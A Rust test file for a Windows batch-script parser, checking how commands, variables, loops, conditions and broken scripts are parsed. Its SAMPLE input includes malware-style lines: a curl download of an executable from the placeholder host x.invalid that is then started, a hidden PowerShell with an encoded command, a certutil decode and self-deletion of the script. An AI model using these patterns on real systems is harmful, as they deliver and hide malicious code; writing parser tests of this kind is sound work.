use super::*;
use crate::parse::script::shell::dump;

/// Statements, then problems.
fn dumped(text: &str) -> String {
    let tree = read(text);
    let mut out = dump::script(&tree);
    for (at, what) in &tree.problems {
        out.push_str(&format!("\n! {at} {what}"));
    }
    out
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (text, expected) in cases {
        assert_eq!(dumped(text), *expected, "{text}");
    }
}

#[test]
fn commands_and_words() {
    check(&[
        ("", ""),
        ("@echo off\r\nrem a & b\r\n:: c\r\n:label\r\n", r#""echo"("off")"#),
        ("p^ower^shell -Enc \"a b\" ^\n c", r#""powershell"("-Enc" "a b" "c")"#),
        ("CMD/c dir & a && b || c", "\"cmd\"(\"/c\" \"dir\")\n(Or (And \"a\"() \"b\"()) \"c\"())"),
        (
            "a | b 2>&1 >nul & c > f & d>>g 2>nul & e < h",
            "redirect(\"b\"(silent=true stdin=\"a\"()) \"nul\")\nredirect(\"c\"() \"f\")\nredirect(\"d\"(silent=true) \"g\" append=true)\n\"e\"(stdin=\"cat\"(\"h\"))",
        ),
        ("echo a  \"b\" ^& c>f & echo.", "redirect(\"echo\"(\"a  \\\"b\\\" & c \") \"f\")\n\"echo\"()"),
        ("(echo a\necho b) > f", r#"redirect({"echo"("a"); "echo"("b")} "f")"#),
        (
            "goto :eof & call :sub a & start \"\" /b x",
            "\"goto\"(\":eof\")\n\"call\"(\":sub\" \"a\")\n\"start\"(\"\" \"/b\" \"x\")",
        ),
    ]);
}

#[test]
fn variables() {
    check(&[
        ("set X=abc def & set \"y=a & b\" & set z=\"q\"", "(let x \"abc def \")\n(let y \"a & b\")\n(let z \"q\")"),
        (
            "%x:~0,1%%X:~-3,2%%x:~4% %TEMP%\\a %1 %~dp0b %*",
            r#"<x[0:1:_] x[-3:-1:_] x[4:_:_]>(<temp "\\a"> 1 <expand(0 "~dp") "b"> *)"#,
        ),
        ("a %x:b=c% 100%% %", "\"a\"(expand(x \"//\" \"b\" \"c\") \"100%\" \"%\")"),
        (
            "setlocal EnableDelayedExpansion\na !x! !x:~1,1!",
            "\"setlocal\"(\"EnableDelayedExpansion\")\n\"a\"(x x[1:2:_])",
        ),
        ("echo !x!", r#""echo"("!x!")"#),
        (
            "set /a n=1+2*%x%, m=n%%3 & set /p q=Name: <f",
            "(seq (let n (Add 1 (Mul 2 x))) (let m (Mod n 3)))\n(let q \"set\"(\"/p\" \"Name: \" stdin=\"cat\"(\"f\")))",
        ),
        ("set %x%y=1 & set", "(= indirect(<x \"y\">) \"1 \")\n\"set\"(\"\")"),
    ]);
}

#[test]
fn control() {
    check(&[
        (
            "if exist \"%T%\\f\" (a) else if /i not \"%1\"==\"b\" (c) else d & e",
            r#"(if "exist"(<t "\\f">) {"a"()} (if (Not (Eq 1 "b")) {"c"()} {"d"(); "e"()}))"#,
        ),
        ("if defined x if %n% geq 3 goto end", r#"(if (Ne x nil) {(if (Ge n 3) {"goto"("end")} _)} _)"#),
        ("if errorlevel 1 a", r#"(if (Ge errorlevel 1) {"a"()} _)"#),
        ("for %%i in (a \"b c\") do echo %%i%%~nxi", r#"(for %i ["a" "b c"] {"echo"(<%i expand(%i "~nx")>)})"#),
        ("for /l %%i in (1,1,5) do (a %%i)", r#"(for %i ..(1 5) {"a"(%i)})"#),
        (
            "for /f \"tokens=1,2\" %%a in ('type f ^| find \"x\"') do b %%b",
            r#"(for %a lines("find"("x" stdin="type"("f"))) {(let %b (? %a)); {"b"(%b)}})"#,
        ),
        ("for /f %%a in (f.txt) do b", r#"(for %a lines("cat"("f.txt")) {"b"()})"#),
    ]);
}

#[test]
fn what_is_broken_is_told_and_the_rest_is_read() {
    check(&[
        (") a\nb", "\"b\"()"),
        ("(a", "{\"a\"()}\n! 0 a parenthesis is never closed"),
        ("if a\nb", "(if (? \"a\") {} _)\n\"b\"()\n! 3 a condition that is not understood"),
        ("for x\nb", "(?)\n\"b\"()\n! 0 a loop without a variable"),
    ]);
}

/// A bit of everything.
const SAMPLE: &str = r###"@echo off
setlocal enabledelayedexpansion
rem comment & x
:: comment
set x=abc def
set "y=a b & c"
set z="quoted"
set /a n=1+2*%x%, m=n%%3
set /p q=Name: <file.txt
echo Hello %x:~0,1%%y:~-3,2% !z! ^& %%a > out.txt
%x:~0,1%%x:~1,1% /c dir
cmd /c "curl http://x.invalid -o %TEMP%\a.exe" && start "" %TEMP%\a.exe
if exist "%TEMP%\f" (del f) else if /i not "%1"=="a" (echo no) else echo yes
if defined x if %n% geq 3 goto end
for %%i in (a b "c d") do echo %%i & echo %%~nxi
for /l %%i in (1,1,5) do (set r=!r!!x:~%%i,1!)
for /f "tokens=1,2 delims=," %%a in ('type f ^| find "x"') do call :sub %%a %%b
p^ower^shell -w hidden -enc AAA 2>&1 >nul | more
echo line1>>s.vbs
(echo a
echo b) > f.txt
:end
call :sub a
certutil -decode a b>nul 2>nul & del %~dp0x %~f0 %*
cmd/c echo.
set %x%w=1
echo.text (paren)
"###;

#[test]
fn broken_scripts_are_survived() {
    crate::parse::script::shell::survive::survive(read, "", &[SAMPLE]);
}
